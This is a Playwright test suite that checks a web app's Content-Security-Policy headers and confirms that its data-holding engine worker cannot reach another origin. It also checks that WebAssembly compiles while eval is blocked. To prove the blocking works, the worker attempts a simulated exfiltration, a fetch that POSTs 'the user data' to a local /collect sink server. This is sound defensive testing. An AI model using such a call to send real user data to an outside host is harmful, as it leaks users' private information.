import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures';

/**
 * A dedicated worker takes its Content-Security-Policy from the response that served its
 * script, not from the page's <meta> tag. The worker holds the user's data, so this proves it
 * cannot send it anywhere: a fetch from inside the engine worker to a server on another port
 * (another origin) must never reach that server.
 */
test.describe('the engine worker is inside the content security policy', () => {
  test.use({ allowedConsoleErrors: [/Content Security Policy/] });

  let sink: Server;
  let heard: string[];
  let sinkUrl: string;

  test.beforeEach(async () => {
    heard = [];
    sink = createServer((req, res) => {
      heard.push(`${req.method ?? ''} ${req.url ?? ''}`);
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.end('ok');
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/collect`;
  });

  test.afterEach(async () => {
    await new Promise<void>((resolve) => sink.close(() => resolve()));
  });

  test('the sink server itself is reachable from Node (so silence means blocked)', async () => {
    const res = await fetch(sinkUrl, { method: 'POST', body: 'probe' });
    expect(await res.text()).toBe('ok');
    expect(heard).toEqual(['POST /collect']);
  });

  test('every response carries the policy as a header, and a fetch from the worker is blocked', async ({
    page,
  }) => {
    const scriptHeaders: { url: string; csp: string | undefined }[] = [];
    page.on('response', (r) => {
      if (r.request().resourceType() === 'script' || r.url().includes('worker')) {
        scriptHeaders.push({ url: r.url(), csp: r.headers()['content-security-policy'] });
      }
    });
    const pageResponse = await page.goto('/');
    expect(pageResponse?.headers()['content-security-policy']).toContain("connect-src 'self'");

    // Loading a file proves the engine worker is up (the page may start it before any file).
    await page.getByTestId('sample-contacts.csv').click();
    await expect(page.getByTestId('loaded-summary')).toBeVisible();
    await expect.poll(() => page.workers().length).toBe(1);
    const worker = page.workers()[0]!;
    expect(worker.url()).toContain('worker');

    const workerScript = scriptHeaders.find((h) => h.url === worker.url());
    expect(workerScript?.csp, `CSP header on ${worker.url()}`).toContain("connect-src 'self'");
    for (const h of scriptHeaders) expect(h.csp, h.url).toContain("default-src 'self'");

    const outcome = await worker.evaluate(async (url) => {
      try {
        await fetch(url, { method: 'POST', body: 'the user data' });
        return 'sent';
      } catch (err) {
        return `blocked: ${String(err)}`;
      }
    }, sinkUrl);
    expect(outcome).toMatch(/^blocked/);
    // A beacon-like image or an XHR would go through connect-src/img-src too; fetch covers the
    // worker's only network API besides importScripts, which script-src 'self' blocks.
    expect(heard).toEqual([]);
  });

  test("the policy lets the workers compile WebAssembly and nothing else ('wasm-unsafe-eval', no eval)", async ({ page }) => {
    const pageResponse = await page.goto('/');
    const policy = pageResponse?.headers()['content-security-policy'] ?? '';
    // The SHA-256 of a commit and an export is WebAssembly (docs/architecture.md, "Hashing").
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(policy).not.toContain("'unsafe-eval'");
    await page.getByTestId('sample-contacts.csv').click();
    await expect(page.getByTestId('loaded-summary')).toBeVisible();
    await expect.poll(() => page.workers().length).toBe(1);
    const outcome = await page.workers()[0]!.evaluate(async () => {
      // The smallest valid module: magic number and version.
      const compiled = await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
        () => 'compiled',
        (err: unknown) => `refused: ${String(err)}`,
      );
      let evaluated: string;
      try {
        // oxlint-disable-next-line no-eval -- the point: the policy must refuse it
        evaluated = String((0, eval)('1 + 1'));
      } catch (err) {
        evaluated = `blocked: ${String(err)}`;
      }
      return { compiled, evaluated };
    });
    expect(outcome.compiled).toBe('compiled');
    expect(outcome.evaluated).toMatch(/^blocked/);
  });
});
